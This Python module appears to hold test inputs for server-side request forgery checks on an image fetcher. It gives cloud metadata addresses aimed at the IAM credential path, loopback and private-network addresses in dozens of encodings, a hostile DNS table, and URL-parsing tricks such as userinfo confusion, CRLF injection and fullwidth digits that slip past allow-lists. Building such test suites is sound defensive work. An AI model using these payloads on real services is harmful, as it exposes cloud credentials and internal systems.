"""Addresses of pictures that lead a careless reader to itself, to its neighbours or to a cloud's credentials."""

import socket
from collections.abc import Sequence

# What a hostile owner of a name can answer; the last entry of `twice` shows on the second question.
NAMES = {
    "metadata.google.internal": ["169.254.169.254"],
    "instance-data": ["169.254.169.254"],
    "metadata.azure.internal": ["168.63.129.16"],
    "localhost": ["127.0.0.1", "::1"],
    "localhost.": ["127.0.0.1"],
    "private.example": ["127.0.0.1"],
    "ten.example": ["10.1.2.3"],
    "mapped.example": ["::ffff:127.0.0.1"],
    "both.example": ["93.184.215.14", "127.0.0.1"],
    "127.0.0.1.nip.example": ["127.0.0.1"],
    "linklocal.example": ["fe80::1%lo"],
}


def look_up(name: str, port: int) -> Sequence[str]:
    """Names from the table, and every spelling of a number that the C library knows; no packet is sent for it."""
    if name in NAMES:
        return NAMES[name]
    found = socket.getaddrinfo(name, port, type=socket.SOCK_STREAM, flags=socket.AI_NUMERICHOST)
    return [str(entry[4][0]) for entry in found]


def metadata(path: str = "latest/meta-data/iam") -> list[str]:
    """Kind 90: the addresses at which clouds tell a machine its secrets."""
    hosts = [
        "169.254.169.254", "2852039166", "0xA9FEA9FE", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518",
        "[::ffff:a9fe:a9fe]", "[::ffff:169.254.169.254]", "[::a9fe:a9fe]", "[64:ff9b::a9fe:a9fe]",
        "[64:ff9b:1::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "[fd00:ec2::254]", "[fe80::a9fe:a9fe]", "168.63.129.16",
        "100.100.100.200", "192.0.0.192", "metadata.google.internal", "instance-data", "metadata.azure.internal",
    ]  # fmt: skip
    return [f"http://{host}/{path}" for host in hosts]


def neighbours(port: int) -> list[str]:
    """Kind 91: this machine, whose server listens at `port`, and its private neighbours."""
    hosts = [
        "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "0",
        "0.0.0.0", "127.255.255.254", "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
        "[::7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1",
        "198.18.0.1", "224.0.0.1", "255.255.255.255", "[ff02::1]", "[fec0::1]", "localhost", "localhost.",
        "private.example", "ten.example", "mapped.example", "both.example", "127.0.0.1.nip.example",
        "linklocal.example",
    ]  # fmt: skip
    return [f"http://{host}:{port}/1.png" for host in hosts]


def disguised(port: int, listed: str) -> list[str]:
    """Addresses that two readers may understand in two ways; `listed` is a host that may be asked."""
    local = f"127.0.0.1:{port}"
    return [
        f"http://{listed}@{local}/1.png", f"http://{listed}:80@{local}/1.png", f"http://{local}\\@{listed}/1.png",
        f"http://{listed}\\@{local}/1.png", f"http://{listed}%40{local}/1.png", f"http://{listed}%00.{local}/",
        f"http://{local}%2f@{listed}/", f"http://{listed}?@{local}/", f"http://{listed}#@{local}/",
        f"http:///{local}/1.png", f"http:/{local}/1.png", f"http:{local}/1.png", f"http:\\\\{local}\\1.png",
        f"http://{local}\t/1.png", f"http://\t{local}/1.png", f"http://{listed}\r\n@{local}/1.png",
        f"http://１２７.０.０.１:{port}/1.png", f"http://127。0。0。1:{port}/1.png", f"http://①②⑦.0.0.1:{port}/",
        f"http://{listed} @{local}/", f"http://{listed}/1.png HTTP/1.1\r\nHost: {local}", f"hTTp://a:b@{local}/1.png",
        f"https://{local}/1.png", f"http://[{local}]/1.png", f"http://{listed}.{local}/1.png",
    ]  # fmt: skip
